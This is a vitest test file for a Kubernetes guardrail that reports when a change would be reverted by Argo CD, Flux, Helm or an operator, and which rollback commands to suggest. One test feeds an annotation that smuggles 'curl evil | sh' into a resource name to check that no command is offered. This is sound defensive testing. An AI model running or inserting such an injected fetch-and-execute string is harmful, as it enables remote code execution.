import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../../src/core/verdict.ts';
import { renderProposal } from '../../../src/notifications/reports/proposal.ts';
import type { Holder } from '../../../src/ops/guardrail.ts';
import { ownership } from '../../../src/ops/guardrails/ownership.ts';
import { aProposal } from '../../support/builders.ts';
import { aCase } from '../../support/guardrail-case.ts';
import { shownText } from '../../support/shown.ts';

function held(holder: Partial<Holder>) {
  return { holder: { known: { labels: {}, annotations: {}, ...holder } } };
}

const flux = { 'kustomize.toolkit.fluxcd.io/name': 'shop', 'kustomize.toolkit.fluxcd.io/namespace': 'flux' };
const helm = { 'meta.helm.sh/release-name': 'shop', 'meta.helm.sh/release-namespace': 'web' };
const byPerson = { origin: { surface: 'slash', user: 'U1' } } as const;

describe.each<[string, Partial<Holder>, Verdict['answer'], string, string]>([
  [
    'Argo CD by annotation',
    { annotations: { 'argocd.argoproj.io/tracking-id': 'shop:apps/Deployment:shop/checkout' } },
    'needs-approval',
    'This will be reverted by Argo CD application shop at the next sync.',
    '`argocd app set shop --sync-policy none`) and go back with `argocd app rollback shop`',
  ],
  [
    'Argo CD in any namespace',
    { annotations: { 'argocd.argoproj.io/tracking-id': 'team-a_shop:apps/Deployment:shop/checkout' } },
    'needs-approval',
    'Argo CD application team-a/shop',
    '`argocd app rollback team-a/shop`',
  ],
  [
    'Argo CD by label',
    { labels: { 'argocd.argoproj.io/instance': 'shop' } },
    'needs-approval',
    'Argo CD application shop',
    'argocd app rollback shop',
  ],
  [
    'Flux',
    { labels: flux },
    'needs-approval',
    'This will be reverted by Flux Kustomization flux/shop at its next reconciliation.',
    '`flux suspend kustomization shop -n flux`',
  ],
  [
    'Flux by a HelmRelease, which also looks like Helm',
    {
      labels: { 'helm.toolkit.fluxcd.io/name': 'shop', 'helm.toolkit.fluxcd.io/namespace': 'web' },
      annotations: helm,
    },
    'needs-approval',
    'Flux HelmRelease web/shop',
    '`flux suspend helmrelease shop -n web`',
  ],
  [
    'Helm, which puts back nothing by itself',
    { annotations: helm },
    'allow',
    'This will be reverted by Helm release shop at its next upgrade.',
    '`helm rollback shop <revision> -n web`',
  ],
  [
    'an operator, whatever its labels were copied from',
    { owner: { kind: 'Kafka', name: 'orders', uid: 'u' }, labels: flux },
    'needs-approval',
    'This will be reverted by the operator of Kafka orders at its next reconciliation.',
    'Change Kafka orders instead.',
  ],
])('what is owned by %s', (_who, holder, alone, sentence, instead) => {
  it('is told with who reverts it, when, and what lasts; a person always reads it', () => {
    const verdict = ownership.judge(aCase(held(holder)));
    expect(verdict.answer).toBe(alone);
    expect(verdict.reason).toContain(sentence);
    expect(verdict.reason).toContain(instead);
    expect(ownership.judge(aCase({ ...held(holder), ...byPerson }))).toEqual({
      answer: 'needs-approval',
      reason: verdict.reason,
    });
  });

  it('is told on the card', () => {
    const verdict = ownership.judge(aCase({ ...held(holder), ...byPerson }));
    const card = shownText(renderProposal(aProposal({ rulings: [{ guardrail: 'ownership', verdict }] })));
    expect(card).toContain(sentence);
    expect(card).toContain(instead.replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
  });
});

describe('ownership', () => {
  it('does not matter for what changes nothing lasting, or where nobody claims it', () => {
    expect(ownership.judge(aCase({ ...held({ labels: flux }), lasting: false })).answer).toBe('allow');
    expect(ownership.judge(aCase(held({}))).answer).toBe('allow');
  });

  it('is not claimed by controllers that only make objects', () => {
    const owner = { kind: 'CronJob', name: 'report', uid: 'u' };
    expect(ownership.judge(aCase(held({ owner }))).answer).toBe('allow');
  });

  it('offers no command with a name that is not safe to paste', () => {
    const annotations = { 'argocd.argoproj.io/tracking-id': 'shop; curl evil | sh:apps/Deployment:shop/checkout' };
    const { reason } = ownership.judge(aCase(held({ annotations })));
    expect(reason).toContain('Change it where it is declared.');
    expect(reason).not.toContain('`');
  });
});
